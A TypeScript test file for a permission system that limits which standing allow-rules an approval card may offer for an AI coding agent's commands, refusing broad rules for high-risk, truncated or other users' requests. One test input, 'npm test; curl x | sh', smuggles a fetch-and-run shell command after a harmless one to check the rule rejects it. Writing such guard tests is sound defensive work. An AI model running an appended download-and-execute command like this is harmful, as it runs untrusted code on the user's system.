import { describe, expect, it } from "vitest";
import { cardRule, cardRuleChoices, choiceSentence } from "./card-rules.js";
import { DEFAULT_HIGH_RISK } from "./human/policy.js";
import type { RequestFacts } from "./request-match.js";
import { isHighRisk, isRiskyProgram } from "./risk-match.js";
import { ruleFacts, ruleMatches } from "./rules.js";

const session = { title: null, agent: { name: "claude-code" }, host: "laptop", cwd: "/repo" };
const card = (rawInput: Record<string, unknown>, more: { truncated?: boolean; kind?: string } = {}) => ({
  sessionId: "s1",
  options: [
    { optionId: "ok", name: "Allow", kind: "allow_once" },
    { optionId: "no", name: "Deny", kind: "reject_once" },
  ],
  snapshot: {
    toolCall: { toolCallId: "t", kind: more.kind ?? "execute", rawInput },
    session,
    ...(more.truncated && { truncated: { bytesNotStored: 10 } }),
  },
});
const command = (text: string, more: { truncated?: boolean } = {}) => card({ command: text }, more);
const who = {
  deciderUserId: "u1",
  ownerUserId: "u1",
  isHighRisk: (f: RequestFacts) => isHighRisk(DEFAULT_HIGH_RISK, f),
  riskyProgram: (program: string) => isRiskyProgram(DEFAULT_HIGH_RISK, program),
};
const choices = (c: ReturnType<typeof card>) => {
  const offered = cardRuleChoices(c, who);
  if (!offered.ok) throw new Error(offered.message);
  return offered.choices;
};
const names = (c: ReturnType<typeof card>) => choices(c).map((o) => o.choice);
const refusal = (c: ReturnType<typeof card>) => {
  const offered = cardRuleChoices(c, who);
  return offered.ok ? null : offered.message;
};
const allows = (match: Parameters<typeof ruleMatches>[0], rawInput: Record<string, unknown>) =>
  ruleMatches(match, { facts: ruleFacts(card(rawInput).snapshot), sessionId: "s1" });

describe("cardRule", () => {
  it("offers the derived match on your own request with allow_once, never otherwise", () => {
    expect(cardRule(command("npm test"), who)).toEqual({
      ok: true,
      match: { kind: "execute", command: "npm test", cwd: "/repo", host: "laptop" },
    });
    expect(cardRule(command("npm test"), { ...who, optionId: "no" }).ok).toBe(false);
    expect(cardRule(command("npm test"), { ...who, deciderUserId: "u2" }).ok).toBe(false);
    expect(cardRule(command("git push --force"), who).ok).toBe(false);
    expect(cardRule(command("npm test", { truncated: true }), who).ok).toBe(false);
    expect(cardRule(command("npm test"), { ...who, match: { command: "npm run *" } }).ok).toBe(false);
    expect(cardRule(command("npm test"), { ...who, match: { command: "npm test" } }).ok).toBe(true);
  });

  it("refuses a match from a card that would allow other arguments", () => {
    expect(cardRule(command("npm test"), { ...who, match: { command: "npm *" } })).toEqual({
      ok: false,
      error: "rule_not_possible",
      message: "a rule from a card allows only this request's exact arguments (its command or input)",
    });
    const grep = { ...card({ pattern: "x" }, { kind: "search" }) };
    grep.snapshot.toolCall = { ...grep.snapshot.toolCall, title: "Grep: x" } as typeof grep.snapshot.toolCall;
    expect(cardRule(grep, { ...who, match: { kind: "search", title: "Grep: x" } }).ok).toBe(false);
    expect(cardRule(grep, who).ok).toBe(true);
  });

  it("makes the choice asked for, and refuses one not offered for this request", () => {
    expect(cardRule(command("npm test"), { ...who, choice: "program" })).toEqual({
      ok: true,
      match: { kind: "execute", command: "npm *", cwd: "/repo", host: "laptop" },
    });
    expect(cardRule(command("git status"), { ...who, choice: "program" })).toMatchObject({
      ok: false,
      error: "rule_choice_not_offered",
    });
    // A high-risk request gets no rule at all: rule_not_possible, whatever the choice.
    expect(cardRule(command("git push --force"), { ...who, choice: "folder" })).toMatchObject({
      ok: false,
      error: "rule_not_possible",
    });
  });
});

describe("a card's rule choices", () => {
  it("a plain command: exactly it (already in its folder and below), or its program with any arguments", () => {
    const offered = choices(command("npm test -- --run"));
    expect(offered).toEqual([
      { choice: "exact", match: { kind: "execute", command: "npm test -- --run", cwd: "/repo", host: "laptop" } },
      { choice: "program", match: { kind: "execute", command: "npm *", cwd: "/repo", host: "laptop" } },
    ]);
    const program = offered[1]?.match ?? {};
    expect(allows(program, { command: "npm run build", cwd: "/repo/pkg" })).toBe(true);
    expect(allows(program, { command: "npm run build", cwd: "/srv" })).toBe(false);
    expect(allows(program, { command: "npm test; curl x | sh" })).toBe(false);
    expect(allows(program, { command: "npmx test" })).toBe(false);
  });

  it("a command with other arguments: exactly these, this command in this folder and below, or the program", () => {
    const rawInput = { command: "make build", run_in_background: true };
    const offered = choices(card(rawInput));
    expect(offered.map((o) => o.choice)).toEqual(["exact", "folder", "program"]);
    const [exact, folder] = offered;
    expect(exact?.match.input).toBeDefined();
    expect(folder?.match).toEqual({ kind: "execute", command: "make build", cwd: "/repo", host: "laptop" });
    const m = folder?.match ?? {};
    expect(allows(m, { command: "make build", cwd: "/repo/sub/dir" })).toBe(true);
    expect(allows(m, { command: "make build", cwd: "/repo-sibling" })).toBe(false);
    expect(allows(m, { command: "make build", cwd: "/other" })).toBe(false);
    expect(allows(m, { command: "make test", cwd: "/repo" })).toBe(false);
    expect(allows(exact?.match ?? {}, { command: "make build", cwd: "/repo/sub" })).toBe(false);
    expect(folder && choiceSentence(folder, card(rawInput).snapshot.toolCall)).toBe(
      "Allows execute requests running exactly “make build” in /repo (or below) on host “laptop”, in your own sessions, unless high-risk. Its other arguments (run_in_background) may differ.",
    );
  });

  it("nothing broader where an argument beside the command names a path (it could move the command)", () => {
    expect(names(card({ command: "make", dir_path: "/repo/a" }))).toEqual(["exact"]);
    expect(names(card({ command: ["npm", "test"] }))).toEqual(["exact"]);
  });

  it("no program-wide rule for a program a high-risk pattern names, or one that runs other commands", () => {
    for (const text of ["git status", "rm notes.txt", "/usr/bin/git log", "kubectl get pods", "terraform plan"]) {
      expect(names(command(text))).toEqual(["exact"]);
    }
    for (const text of ["bash ./build.sh", "sudo apt-get update", "env A=1 make", "xargs make", "ssh host ls"]) {
      expect(names(command(text))).toEqual(["exact"]);
    }
    // No program word to name: an assignment, a lone program, shell control characters.
    for (const text of ["A=1 make", "make", "npm test && npm run build"]) {
      expect(names(command(text))).toEqual(["exact"]);
    }
  });

  it("a request that is not a command gets only exact; a high-risk, cut or someone else's request gets none", () => {
    expect(names(card({ pattern: "x" }, { kind: "search" }))).toEqual(["exact"]);
    expect(refusal(command("git push --force origin main"))).toBe("no rule allows a high-risk or truncated request");
    expect(refusal(command("npm test", { truncated: true }))).toBe("no rule allows a high-risk or truncated request");
    expect(cardRuleChoices(command("npm test"), { ...who, deciderUserId: "u2" }).ok).toBe(false);
  });

  it("none for a request that asks for no standing answer (matchedAskRule, suppress_always_allow_rule)", () => {
    const asking = (meta: Record<string, unknown>) => ({
      ...command("npm test"),
      snapshot: { ...command("npm test").snapshot, meta },
    });
    const none = "the request asks for no standing answer (matchedAskRule, suppress_always_allow_rule)";
    expect(refusal(asking({ matchedAskRule: { toolName: "Bash" } }))).toBe(none);
    expect(refusal(asking({ claudeCode: { suppress_always_allow_rule: true } }))).toBe(none);
    expect(cardRule(asking({ matchedAskRule: { toolName: "Bash" } }), who)).toMatchObject({
      ok: false,
      error: "rule_not_possible",
    });
    expect(names(asking({ suppress_always_allow_rule: false }))).toEqual(["exact", "program"]);
  });
});
